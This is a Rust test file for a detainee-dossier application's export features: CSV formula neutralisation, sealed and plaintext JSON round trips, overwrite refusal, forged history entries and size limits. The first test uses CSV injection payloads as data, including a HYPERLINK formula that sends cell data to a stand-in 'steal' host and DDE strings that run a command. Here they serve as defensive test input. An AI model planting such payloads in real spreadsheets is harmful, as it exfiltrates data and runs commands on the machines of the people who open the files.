//! Exports: CSV with formulas neutralised, the lossless JSON round trip, refusal to overwrite.

use super::*;

const CANARY: &str = "PRIVATE-CANARY-7d1f";

#[test]
fn csv_export_neutralises_formulas_and_round_trips() {
    let dir = tempfile::tempdir().unwrap();
    let mut d = new_dossier(dir.path(), "f.dossier");
    let nasty = [
        "=HYPERLINK(\"http://example.invalid/steal?\"&A1,\"Click\")",
        "+33 6 00 00 00 00",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
    ];
    for (i, n) in nasty.iter().enumerate() {
        let mut p = Detainee::new(*n, Category::Civilian);
        p.notes = Some(format!("={i}+1"));
        p.birth_place = Some("Normal place".into());
        d.insert(p).unwrap();
    }
    for semicolon in [false, true] {
        let path = dir.path().join(format!("out-{semicolon}.csv"));
        exchange::export_csv(&d, dossier::model::RecordKind::Detainee, &path, semicolon, false).unwrap();
        let bytes = std::fs::read(&path).unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "BOM for Excel");
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert!(text.contains("\r\n"));
        let mut rdr =
            csv::ReaderBuilder::new().delimiter(if semicolon { b';' } else { b',' }).from_reader(text.as_bytes());
        let mut rows = 0;
        for rec in rdr.records() {
            let rec = rec.unwrap();
            assert!(uuid::Uuid::parse_str(&rec[0]).is_ok(), "every row carries its id");
            for c in rec.iter() {
                assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell could run as a formula: {c:?}");
            }
            rows += 1;
        }
        assert_eq!(rows, nasty.len());
        // Read back, the values are exactly what was stored: every row is unchanged.
        let r = exchange::import_spreadsheet(&mut d, &path, &opts()).unwrap();
        assert_eq!(r.summary.skip, nasty.len(), "{:?}", r.rows);
    }
    for c in ["=1", "+1", "-1", "@a", "\tx", "\rx"] {
        assert!(exchange::export::neutralise(c).starts_with('\''));
    }
    assert_eq!(exchange::export::neutralise("Aram"), "Aram");
    // And into a new dossier, the names come back as they were.
    let mut fresh = new_dossier(dir.path(), "g.dossier");
    let csv = dir.path().join("out-false.csv");
    let mut o = opts();
    o.mapping = vec![("id".into(), String::new())];
    exchange::import_spreadsheet(&mut fresh, &csv, &o).unwrap();
    let mut a = names_of(&fresh);
    let mut b: Vec<String> = nasty.iter().map(|s| s.to_string()).collect();
    a.sort();
    b.sort();
    assert_eq!(a, b);
}

#[test]
fn json_export_imports_back_losslessly() {
    let dir = tempfile::tempdir().unwrap();
    let mut a = sample(dir.path(), "a.dossier");
    let someone = a.list::<Detainee>().unwrap()[0].id;
    a.insert(Contact {
        detainee_id: someone,
        name: "Mère (fictive)".into(),
        relation: Some("mère".into()),
        phone: Some("+374 00 000 000".into()),
        email: None,
        address: None,
        languages: vec!["hy".into()],
        notes: None,
    })
    .unwrap();
    a.edit::<Detainee>(someone, &[("status".into(), "released".into())]).unwrap();
    let path = dir.path().join("full.json");
    let n = exchange::export_json(&a, &path, false, exchange::Seal::Plaintext).unwrap();
    assert!(n > 30, "{n}");
    let mut b = new_dossier(dir.path(), "b.dossier");
    let r = exchange::import_json(&mut b, &path, false, None).unwrap();
    assert!(r.applied);
    let (sa, sb) = (json::snapshot(&a).unwrap(), json::snapshot(&b).unwrap());
    assert_eq!(sa.detainees, sb.detainees);
    assert_eq!(sa.contacts, sb.contacts);
    assert_eq!(sa.media, sb.media, "photos and logos byte for byte");
    assert_eq!(sa.sponsors, sb.sponsors);
    assert_eq!(sa.sponsorships, sb.sponsorships);
    assert_eq!(sa.events, sb.events);
    assert_eq!(sa.sources, sb.sources);
    assert_eq!(sa.press_releases, sb.press_releases);
    assert_eq!(sa.profiles, sb.profiles);
    let strip = |h: &[dossier::store::Change]| {
        h.iter().map(|c| dossier::store::Change { seq: 0, ..c.clone() }).collect::<Vec<_>>()
    };
    assert_eq!(strip(&sb.history[..sa.history.len()]), strip(&sa.history), "the whole history comes along, in order");
    // Search and the generated columns work on the imported copy.
    assert_eq!(a.search("Արամ", 50).unwrap().len(), b.search("Արամ", 50).unwrap().len());
    assert_eq!(a.counts().unwrap().by_status, b.counts().unwrap().by_status);
    // Importing the same export again is refused whole: nothing doubles.
    let before = b.list::<Detainee>().unwrap().len();
    let e = exchange::import_json(&mut b, &path, false, None).unwrap_err();
    assert_eq!(e.code(), "id_taken");
    assert_eq!(b.list::<Detainee>().unwrap().len(), before);
    // A file from a newer schema is refused with a clear message.
    let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    v["schema_version"] = 99.into();
    let newer = dir.path().join("newer.json");
    write(&newer, v.to_string().as_bytes());
    let mut c = new_dossier(dir.path(), "c.dossier");
    let e = exchange::import_json(&mut c, &newer, false, None).unwrap_err();
    assert!(e.message(Lang::En).contains("export version 99"), "{}", e.message(Lang::En));
}

#[test]
fn json_round_trip_through_the_command_line() {
    let env = Env::init();
    env.ok(&["demo"]);
    let out = env.path("all.json");
    let run = env.run(&["export", "json", "--plaintext", "-o", out.to_str().unwrap()]);
    assert!(run.status.success());
    assert!(String::from_utf8_lossy(&run.stderr).contains("NOT encrypted"), "the user is warned");
    let env2 = Env::init();
    env2.ok(&["import", out.to_str().unwrap()]);
    assert_eq!(env.json(&["detainee", "list", "--json"]), env2.json(&["detainee", "list", "--json"]));
    assert_eq!(env.json(&["sponsorship", "list", "--json"]), env2.json(&["sponsorship", "list", "--json"]));
}

#[test]
fn exports_refuse_to_overwrite_and_fail_clearly() {
    let env = Env::init();
    env.ok(&["demo"]);
    let out = env.path("list.csv");
    write(&out, b"precious");
    let err = env.fails(&["export", "csv", "-o", out.to_str().unwrap()], 1);
    assert!(err.contains("not overwritten"), "{err}");
    assert_eq!(std::fs::read(&out).unwrap(), b"precious");
    let msg = env.ok(&["export", "csv", "-o", out.to_str().unwrap(), "--force", "--kind", "sponsor", "--semicolon"]);
    assert!(msg.contains("Exported"), "{msg}");
    assert!(std::fs::read_to_string(&out).unwrap().contains("id;name;kind"));
    // Never over the dossier itself, even with --force.
    let before = std::fs::read(&env.db).unwrap();
    env.fails(&["export", "json", "-o", env.db.to_str().unwrap(), "--force"], 1);
    assert_eq!(std::fs::read(&env.db).unwrap(), before);
    // An unwritable place names the path; no temporary file is left behind.
    let bad = env.path("no/such/folder/out.xlsx");
    let err = env.fails(&["export", "xlsx", "-o", bad.to_str().unwrap()], 1);
    assert!(err.contains("out.xlsx"), "{err}");
    let leftovers: Vec<_> =
        files_in(env.dir.path()).into_iter().filter(|(p, _)| p.to_string_lossy().contains(".tmp-")).collect();
    assert!(leftovers.is_empty());
    let site = env.path("site");
    let msg = env.ok(&["export", "website", "-o", site.to_str().unwrap()]);
    assert!(msg.contains("Website feed written"), "{msg}");
    // Usage errors exit 2.
    env.fails(&["export", "pdf", "-o", "x"], 2);
    env.fails(&["import"], 2);
}

/// The full export holds the family contacts: by default it is sealed (age) under the dossier's passphrase, or
/// the one given for the export, private to its owner, and imports back only with that passphrase.
#[test]
fn json_export_is_sealed_by_default_and_imports_back_with_its_passphrase() {
    let env = Env::init();
    let id = env.id(&["detainee", "add", "--name", "Gor Fictivyan", "--category", "pow"]);
    env.ok(&["contact", "add", "--detainee", &id, "--name", CANARY, "--phone", "+33 6 00 00 00 00"]);
    let out = env.path("all.json.age");
    let run = env.run(&["export", "json", "-o", out.to_str().unwrap()]);
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    assert!(String::from_utf8_lossy(&run.stderr).contains("sealed"), "the user is told how it is protected");
    let bytes = std::fs::read(&out).unwrap();
    assert!(bytes.starts_with(b"age-encryption.org/v1\n"), "an age file");
    assert!(!contains(&bytes, CANARY.as_bytes()) && !contains(&bytes, b"Fictivyan"), "nothing readable");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(&out).unwrap().permissions().mode() & 0o777, 0o600, "private to its owner");
    }
    let env2 = Env::init();
    env2.ok(&["import", out.to_str().unwrap()]);
    assert_eq!(env.json(&["detainee", "list", "--json"]), env2.json(&["detainee", "list", "--json"]));

    // Sealed under a passphrase of its own: the dossier's does not open it, and nothing is imported.
    let own = env.path("own.json.age");
    let run = env
        .cmd(&["export", "json", "-o", own.to_str().unwrap()])
        .env("DOSSIER_EXPORT_PASSPHRASE", "export only words")
        .output()
        .unwrap();
    assert!(run.status.success());
    let env3 = Env::init();
    let err = env3.fails(&["import", own.to_str().unwrap()], 1);
    assert!(err.contains("does not open the sealed export"), "{err}");
    assert!(env3.json(&["detainee", "list", "--json"]).as_array().unwrap().is_empty());
    let ok = env3
        .cmd(&["import", own.to_str().unwrap()])
        .env("DOSSIER_EXPORT_PASSPHRASE", "export only words")
        .output()
        .unwrap();
    assert!(ok.status.success(), "{}", String::from_utf8_lossy(&ok.stderr));
    assert_eq!(env3.json(&["detainee", "list", "--json"]).as_array().unwrap().len(), 1);

    // Readable JSON only when asked for, after the warning; never over an existing file without --force.
    let plain = env.path("plain.json");
    let run = env.run(&["export", "json", "--plaintext", "-o", plain.to_str().unwrap()]);
    assert!(String::from_utf8_lossy(&run.stderr).contains("NOT encrypted"));
    assert!(contains(&std::fs::read(&plain).unwrap(), CANARY.as_bytes()));
    let err = env.fails(&["export", "json", "-o", plain.to_str().unwrap()], 1);
    assert!(err.contains("already exists"), "{err}");
}

/// An export is a file anyone can edit: history entries aimed at records already in the dossier (which `history
/// restore` could write back), at unknown kinds or at records the file does not hold are left out and counted;
/// those of the records it creates, and of records deleted before the export, come along.
#[test]
fn json_import_keeps_history_only_for_records_it_creates() {
    let dir = tempfile::tempdir().unwrap();
    let mut a = sample(dir.path(), "a.dossier");
    let gone = a.insert(Detainee::new("Vardan Fictivyan", Category::Civilian)).unwrap().id;
    a.delete::<Detainee>(gone).unwrap();
    let path = dir.path().join("full.json");
    exchange::export_json(&a, &path, false, exchange::Seal::Plaintext).unwrap();
    let honest = a.full_history().unwrap().len();

    let mut b = new_dossier(dir.path(), "b.dossier");
    let here = b.insert(Detainee::new("Anush Fictivyan", Category::Civilian)).unwrap().id;
    let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let row = |kind: &str, id: &str| {
        serde_json::json!({"seq": 1, "at": "2020-01-01T00:00:00Z", "actor": "forger", "kind": kind,
            "record_id": id, "action": "update", "field": "name", "old_value": "FORGED-PAST", "new_value": "x"})
    };
    let history = v["history"].as_array_mut().unwrap();
    history.push(row("detainee", &here.to_string()));
    history.push(row("no_such_kind", &gone.to_string()));
    history.push(row("detainee", &uuid::Uuid::new_v4().to_string()));
    let forged = dir.path().join("forged.json");
    write(&forged, v.to_string().as_bytes());

    let dry = exchange::import_json(&mut b, &forged, true, None).unwrap();
    assert_eq!((dry.history, dry.history_skipped), (honest, 3), "the dry run says what would be left out");
    let r = exchange::import_json(&mut b, &forged, false, None).unwrap();
    assert_eq!((r.history, r.history_skipped), (honest, 3));
    let mine = b.history(here).unwrap();
    assert!(mine.iter().all(|c| c.action == "create" && c.actor != "forger"), "only its own creation: {mine:?}");
    assert!(b.full_history().unwrap().iter().all(|c| c.old_value.as_deref() != Some("FORGED-PAST")));
    // The deleted record's past came along (the round trip stays lossless).
    assert!(b.history(gone).unwrap().iter().any(|c| c.action == "delete"));

    // Through the command line (the three entries above and one aimed at a record of this dossier): the count is said.
    let env = Env::init();
    let id = env.id(&["detainee", "add", "--name", "Aram Fictivyan", "--category", "pow"]);
    v["history"].as_array_mut().unwrap().push(row("detainee", &id));
    write(&forged, v.to_string().as_bytes());
    let out = env.ok(&["import", forged.to_str().unwrap()]);
    assert!(out.contains("4 history entries about records already in this dossier"), "{out}");
    let json = env.json(&["history", &id, "--json"]);
    assert!(json.as_array().unwrap().iter().all(|c| c["actor"] != "forger"), "{json}");
}

/// Sizes are bounded before anything is decoded: the whole file (2 GiB) and each image (that of a photo).
#[test]
fn json_import_bounds_file_and_image_sizes() {
    use base64::Engine;
    let dir = tempfile::tempdir().unwrap();
    let mut d = new_dossier(dir.path(), "d.dossier");
    // A sparse file just over the bound: refused from its size alone.
    let huge = dir.path().join("huge.json");
    std::fs::File::create(&huge).unwrap().set_len(json::MAX_EXPORT_BYTES + 1).unwrap();
    let e = exchange::import_json(&mut d, &huge, false, None).unwrap_err();
    assert_eq!(e.code(), "export_too_large");
    assert!(e.message(Lang::En).contains("larger than 2 GB"), "{}", e.message(Lang::En));
    assert!(e.message(Lang::Fr).contains("dépasse 2 Go"), "{}", e.message(Lang::Fr));

    let a = sample(dir.path(), "a.dossier");
    let path = dir.path().join("full.json");
    exchange::export_json(&a, &path, false, exchange::Seal::Plaintext).unwrap();
    let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let id = v["media"][0]["id"].as_str().unwrap().to_owned();
    let big = vec![0xFFu8; dossier::media::MAX_FILE_BYTES as usize + 3];
    v["media"][0]["bytes"] = base64::engine::general_purpose::STANDARD.encode(&big).into();
    write(&path, v.to_string().as_bytes());
    let e = exchange::import_json(&mut d, &path, true, None).unwrap_err();
    assert_eq!(e.code(), "export_media_too_large");
    for lang in [Lang::En, Lang::Fr] {
        let m = e.message(lang);
        assert!(m.contains(&id) && m.contains("50"), "{m}");
    }
    assert!(d.list::<Detainee>().unwrap().is_empty());
}

/// The app's spreadsheet exports leave the confidential data out unless the user ticks it: internal notes (a
/// `notes` column) and family contacts (a sheet of their own, XLSX only). The canary is planted in both.
#[test]
fn spreadsheet_exports_carry_notes_and_contacts_only_when_ticked() {
    use dossier::exchange::Confidential;
    use dossier::model::RecordKind;
    let dir = tempfile::tempdir().unwrap();
    let mut d = new_dossier(dir.path(), "c.dossier");
    let mut p = Detainee::new("Personne Fictive", Category::Civilian);
    p.notes = Some(format!("note {CANARY}"));
    let id = d.insert(p).unwrap().id;
    let mut s = Sponsor::new("Ville Fictive", SponsorKind::City);
    s.notes = Some(format!("sponsor {CANARY}"));
    d.insert(s).unwrap();
    d.insert(Contact {
        detainee_id: id,
        name: format!("Mère {CANARY}"),
        relation: None,
        phone: Some("+374 00 000 001".into()),
        email: None,
        address: None,
        languages: vec![],
        notes: None,
    })
    .unwrap();
    let cells = |path: &Path| -> String {
        let tables = exchange::table::read_tables(path).unwrap();
        tables.iter().map(|t| format!("{:?} {:?} {:?}", t.sheet, t.headers, t.rows)).collect::<Vec<_>>().join("\n")
    };
    let all = Confidential { notes: true, contacts: true };
    for (name, confidential) in [("none", Confidential::NONE), ("all", all)] {
        for kind in [RecordKind::Detainee, RecordKind::Sponsor] {
            let csv = dir.path().join(format!("{name}-{kind:?}.csv"));
            exchange::export_csv_with(&d, kind, &csv, true, false, confidential).unwrap();
            let text = cells(&csv);
            assert_eq!(text.contains(CANARY), confidential.notes, "{name} {kind:?}: {text}");
            assert!(!text.contains("+374 00 000 001"), "contacts never go to a CSV file");
        }
        let xlsx = dir.path().join(format!("{name}.xlsx"));
        exchange::export_xlsx_with(&d, &xlsx, Lang::Fr, false, confidential).unwrap();
        let text = cells(&xlsx);
        assert_eq!(text.contains(CANARY), confidential.notes, "{name}: {text}");
        assert_eq!(text.contains("+374 00 000 001"), confidential.contacts, "{name}: {text}");
        assert_eq!(text.contains("Contacts familiaux"), confidential.contacts, "{name}: {text}");
    }
    // The command line's exports keep the notes, as they always did.
    let cli = dir.path().join("cli.csv");
    exchange::export_csv(&d, RecordKind::Detainee, &cli, false, false).unwrap();
    assert!(cells(&cli).contains(CANARY));
}
